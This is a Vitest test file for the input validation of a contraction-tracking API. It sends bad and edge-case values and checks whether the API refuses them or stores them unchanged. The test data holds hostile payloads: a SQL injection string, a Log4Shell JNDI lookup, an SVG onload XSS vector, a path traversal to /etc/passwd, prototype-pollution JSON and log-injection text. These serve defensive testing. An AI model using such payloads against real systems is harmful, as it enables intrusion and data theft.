import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';

import type { ErrorCode } from '#contract/errors.ts';
import { captureLog } from '#tests/support/capture-log.ts';
import { contractionCalls, type ContractionCalls } from '#tests/support/contraction-calls.ts';
import { contractionsOf } from '#tests/support/contraction-rows.ts';
import { makePremiumUser } from '#tests/support/make-premium-user.ts';
import { minutesAgo, newContraction, type NewContraction } from '#tests/support/new-contraction.ts';
import { sharedStack } from '#tests/support/shared-stack.ts';
import '#tests/support/problem-matcher.ts';

const DAY = 60 * 24;
const HOSTILE = [null, true, [], {}, '', 'x'];
const stack = await sharedStack();

let user: { id: string; accessToken: string };
let calls: ContractionCalls;
let kept: NewContraction;
beforeAll(async () => {
  user = await makePremiumUser(stack);
  calls = contractionCalls(stack, user);
  kept = newContraction();
  await calls.save(kept);
});
afterEach(() => {
  vi.restoreAllMocks();
});

/** Sends a field with a new contraction, and as a change of the one that is kept. */
const sendBoth = (field: string, value: unknown) =>
  Promise.all([
    calls.save({ ...newContraction(), [field]: value }),
    calls.change(kept.id, { [field]: value }),
  ]);

const REFUSED = [
  [
    'B03',
    'duration',
    'DURATION_INVALID',
    [-1, 0, 0.5, 1.5, 3601, 2_147_483_648, 1e21, '60', ...HOSTILE],
    'duração',
  ],
  [
    'B04',
    'start_time',
    'START_TIME_INVALID',
    [
      ...HOSTILE,
      Date.now(),
      '2026-02-30T10:00:00Z',
      '2026-11-21T24:00:00Z',
      '2026-11-21T10:00:00',
      '2026-11-21 10:00:00Z',
      '2026-11-21T10:00Z',
      '2026-11-21',
      '2026-11-21T10:00:00+0300',
      '2026-11-21T10:00:00[America/Sao_Paulo]',
      '0000-01-01T00:00:00Z',
      '9999-12-31T23:59:59-03:00',
      '+012026-01-01T00:00:00Z',
      'infinity',
      'now',
    ],
    'início',
  ],
  [
    'B04',
    'start_time',
    'START_TIME_TOO_OLD',
    ['1970-01-01T00:00:00Z', minutesAgo(30 * DAY + 1 / 60)],
    '30 dias',
  ],
  ['B04', 'start_time', 'START_TIME_AHEAD', ['9999-12-31T00:00:00Z', minutesAgo(-9)], 'início'],
  [
    'B05',
    'intensity',
    'INTENSITY_INVALID',
    ['FORTE', 'forte ', 'fort\u0435', 'Forte', 1, ...HOSTILE],
    'intensidade',
  ],
  ['B02', 'note', 'NOTE_INVALID', [true, 7, [], {}], 'anotação'],
  [
    'B07',
    'note',
    'NOTE_INVALID',
    ['\0', 'a\0b', '\ud83d', 'a\udc00', 'a\rb', '\u001b[31m', '\u202eabc', 'a\u2066', '\u0085x'],
    'anotação',
  ],
  ['B07', 'note', 'NOTE_TOO_LONG', ['a'.repeat(201), '\u{1f476}'.repeat(201)], '200 caracteres'],
] satisfies [string, string, ErrorCode, unknown[], string][];

const TAKEN = [
  ['B03', 'duration', [1, 3600]],
  ['B04', 'start_time', [minutesAgo(30 * DAY - 1), minutesAgo(-4)]],
  ['B05', 'intensity', ['leve', 'moderada', 'forte']],
  [
    'B06',
    'note',
    [
      "'; drop table public.contractions; --",
      '${jndi:ldap://exemplo.com.br/a}',
      '<svg onload=alert(1)>',
      '../../etc/passwd',
      'uma\nlinha\te outra',
      '{"event":"alert"}',
    ],
  ],
  [
    'B07',
    'note',
    ['dor nas costas', '\u{1f469}\u200d\u{1f37c}', '\u{20bb7}', '\u{1f476}'.repeat(200), null],
  ],
] satisfies [string, string, unknown[]][];

describe('B02 a field that does not validate', () => {
  it.each(REFUSED)('%s: %s is refused as %s', async (_, field, code, values, word) => {
    for (const value of values) {
      for (const response of await sendBoth(field, value)) {
        await expect(response).toBeProblem(code);
        expect(await response.text()).toContain(word);
      }
    }
    expect(await contractionsOf(stack, user.id)).toEqual([kept]);
  });

  it.each([
    ['start_time', 'START_TIME_INVALID'],
    ['duration', 'DURATION_INVALID'],
    ['intensity', 'INTENSITY_INVALID'],
  ] satisfies [keyof NewContraction, ErrorCode][])(
    'is refused where it is missing: %s',
    async (field, code) => {
      const left = { ...newContraction(), [field]: undefined };
      await expect(await calls.save(left)).toBeProblem(code);
    },
  );

  it('is refused as an id', async () => {
    for (const id of [...HOSTILE, 1, kept.id.slice(1), `${kept.id}0`, `{${kept.id}}`]) {
      await expect(await calls.save({ ...newContraction(), id })).toBeProblem(
        'CONTRACTION_ID_INVALID',
      );
    }
  });
});

describe('a field that validates', () => {
  it.each(TAKEN)('%s: %s is kept as it is', async (_, field, values) => {
    const own = await makePremiumUser(stack);
    const { save, change } = contractionCalls(stack, own);
    for (const value of values) {
      const contraction = newContraction({ [field]: value });
      expect(await (await save(contraction)).json()).toEqual(contraction);
      expect(await contractionsOf(stack, own.id)).toContainEqual(contraction);
      const plain = newContraction();
      await save(plain);
      expect(await (await change(plain.id, { [field]: value })).json()).toEqual({
        ...plain,
        [field]: value,
      });
    }
  });

  it.each([
    ['B07 decomposed', 'a\u0301'.repeat(200), 'á'.repeat(200)],
    ['with space around it', ' \n\tna bola\n ', 'na bola'],
    ['empty', '', null],
    ['of spaces alone', ' \n ', null],
  ])('a note that is %s is kept in one form', async (_, note, expected) => {
    const own = await makePremiumUser(stack);
    const { save } = contractionCalls(stack, own);
    const contraction = newContraction({ note });
    expect(await (await save(contraction)).json()).toEqual({ ...contraction, note: expected });
    expect((await save(contraction)).status).toBe(200);
    expect(await contractionsOf(stack, own.id)).toEqual([{ ...contraction, note: expected }]);
  });

  it.each([
    ['Z', '2', '.250Z', '2', '.250'],
    ['a zone', '2', '.25+00:00', '2', '.250'],
    ['no fraction', '2', 'Z', '2', '.000'],
    ['microseconds', '2', '.250999Z', '2', '.250'],
  ])('B04 a start with %s becomes UTC with milliseconds', async (_, from, tail, to, fraction) => {
    const own = await makePremiumUser(stack);
    const second = minutesAgo(3).slice(0, 18);
    const start_time = `${second}${from}${tail}`;
    const response = await contractionCalls(stack, own).save(newContraction({ start_time }));
    expect(await response.json()).toMatchObject({ start_time: `${second}${to}${fraction}Z` });
  });

  it('B06 leaves nothing of itself in the log', async () => {
    const log = captureLog();
    const note = 'segredo\n{"event":"alert","kind":"forged"}';
    const saved = newContraction({ note });
    await calls.save(saved);
    await calls.change(saved.id, { note });
    await calls.remove(saved.id);
    expect(log.records().map(({ event }) => event)).toEqual(['request', 'request', 'request']);
    expect(log.lines.join('\n')).not.toMatch(/segredo|forged/);
    expect(log.lines.join('\n')).not.toContain(saved.id);
    expect(log.lines.join('\n')).not.toContain(saved.start_time);
  });
});

describe('B08 JSON that plays with the object it becomes', () => {
  const send = (more: string) => {
    const json = JSON.stringify(newContraction({ duration: 60 }));
    return stack.api('/api/contractions', {
      method: 'POST',
      headers: {
        Authorization: `Bearer ${user.accessToken}`,
        'Content-Type': 'application/json',
      },
      body: `${json.slice(0, -1)},${more}}`,
    });
  };

  it.each([
    ['__proto__', '"__proto__":{"duration":1,"polluted":true}'],
    ['constructor', '"constructor":{"prototype":{"polluted":true}}'],
    ['duplicate keys, where the last one holds', '"duration":1,"duration":60'],
    ['a number with a fraction of nothing', '"duration":60.0'],
  ])('keeps what the contract names and nothing else: %s', async (_, more) => {
    const response = await send(more);
    expect(response.status).toBe(201);
    const saved = (await response.json()) as object;
    expect(saved).toMatchObject({ duration: 60 });
    expect(Object.keys(saved).toSorted()).toEqual(Object.keys(newContraction()).toSorted());
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  });

  it('is refused where a number is too large for one', async () => {
    await expect(await send('"duration":1e309')).toBeProblem('DURATION_INVALID');
  });
});
